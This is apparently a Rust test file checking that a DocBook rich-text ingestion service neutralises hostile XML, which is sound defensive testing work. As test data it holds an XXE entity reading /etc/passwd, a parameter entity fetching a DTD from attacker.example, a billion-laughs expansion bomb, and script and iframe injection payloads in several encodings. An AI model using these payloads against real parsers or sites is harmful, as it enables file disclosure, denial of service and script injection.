#![allow(clippy::unwrap_used, clippy::expect_used)]
//! Ingestion of hostile documents.

use trovato_richtext::namespace::DOCBOOK;
use trovato_richtext::{RichTextService, Settings};
use trovato_test_utils::assert;

fn service() -> RichTextService {
    RichTextService::new(&Settings::default())
}

#[test]
fn test_external_entity_is_never_dereferenced() {
    let raw = format!(
        "<?xml version=\"1.0\"?>\n\
         <!DOCTYPE section [\n\
         <!ENTITY xxe SYSTEM \"file:///etc/passwd\">\n\
         <!ENTITY % remote SYSTEM \"http://attacker.example/evil.dtd\">\n\
         ]>\n\
         <section xmlns=\"{DOCBOOK}\"><para>before&xxe;after</para></section>"
    );
    let doc = service().ingest(&raw).unwrap();

    assert_eq!(service().full_text(&doc), "beforeafter ");
    let xml = doc.to_xml();
    assert::not_contains(&xml, "passwd");
    assert::not_contains(&xml, "ENTITY");
    assert::not_contains(&xml, "root:");
}

#[test]
fn test_entity_expansion_bomb_is_defused() {
    let mut declarations = String::from("<!ENTITY lol \"lol\">\n");
    for level in 1..10 {
        let previous = if level == 1 {
            "lol".to_string()
        } else {
            format!("lol{}", level - 1)
        };
        let body = format!("&{previous};").repeat(10);
        declarations.push_str(&format!("<!ENTITY lol{level} \"{body}\">\n"));
    }
    let raw = format!(
        "<!DOCTYPE section [\n{declarations}]>\n<section xmlns=\"{DOCBOOK}\"><para>&lol9;</para></section>"
    );

    let doc = service().ingest(&raw).unwrap();
    let xml = doc.to_xml();
    assert::not_contains(&xml, "lol");
    assert!(xml.len() < 1024);
}

#[test]
fn test_script_tags_removed_in_every_encoding() {
    let cases = [
        "<script>alert(1)</script>",
        "<SCRIPT type=\"text/javascript\">alert(1)</SCRIPT>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "&#x3c;style&#x3e;body{}&#x3c;/style&#x3e;",
        "%3Ciframe src=x%3E%3C/iframe%3E",
        "<iframe src=\"https://attacker.example\"/>",
    ];
    for case in cases {
        let raw = format!(
            "<section xmlns=\"{DOCBOOK}\"><para>Keep {case}this text</para></section>"
        );
        let doc = service().ingest(&raw).unwrap();
        let xml = doc.to_xml().to_lowercase();

        assert_eq!(service().full_text(&doc), "Keep this text ", "case: {case}");
        for tag in ["script", "style", "iframe"] {
            assert::not_contains(&xml, tag);
        }
    }
}

#[test]
fn test_entities_cannot_assemble_markup() {
    for reference in ["&#60;", "&#x3C;", "&#62;", "&#38;"] {
        let raw = format!(
            "<!DOCTYPE section [<!ENTITY l \"{reference}\">]>\
             <section xmlns=\"{DOCBOOK}\"><para>Keep &l;script&gt;alert(1)&l;/script&gt;this</para></section>"
        );
        let doc = service().ingest(&raw).unwrap();
        let text = service().full_text(&doc);
        let xml = doc.to_xml().to_lowercase();

        assert_eq!(text, "Keep script>alert(1)/script>this ", "reference: {reference}");
        assert::not_contains(&text, "<script");
        assert::not_contains(&xml, "&lt;script");
        assert::not_contains(&xml, "&amp;");
        assert::not_contains(&xml, "entity");
    }
}

#[test]
fn test_comments_and_doctype_are_not_persisted() {
    let raw = format!(
        "<!DOCTYPE section [<!ENTITY copy \"&#169;\">]>\n\
         <section xmlns=\"{DOCBOOK}\"><!-- internal note --><para>&copy; 2024</para></section>"
    );
    let doc = service().ingest(&raw).unwrap();
    let xml = doc.to_xml();

    assert::not_contains(&xml, "DOCTYPE");
    assert::not_contains(&xml, "internal note");
    assert::contains(&xml, "\u{a9} 2024");
}

#[test]
fn test_multiple_problems_produce_multiple_diagnostics() {
    let raw = format!(
        "<section xmlns=\"{DOCBOOK}\">\n<para>open\n</section>\n<para>second root</para>"
    );
    let err = service().ingest(&raw).unwrap_err();

    assert!(err.diagnostics.len() >= 2, "diagnostics: {:?}", err.diagnostics);
    assert_eq!(err.diagnostics[0].line, 3);
    assert!(err.diagnostics[0].message.contains("<para>"));
    assert!(
        err.diagnostics
            .iter()
            .any(|d| d.message.contains("extra content after the root element"))
    );
}

#[test]
fn test_validate_surfaces_diagnostics_as_messages() {
    let errors = service().validate("<section><para></section>");
    assert!(!errors.is_empty());
    assert::contains(&errors[0].to_string(), "is not closed");
}
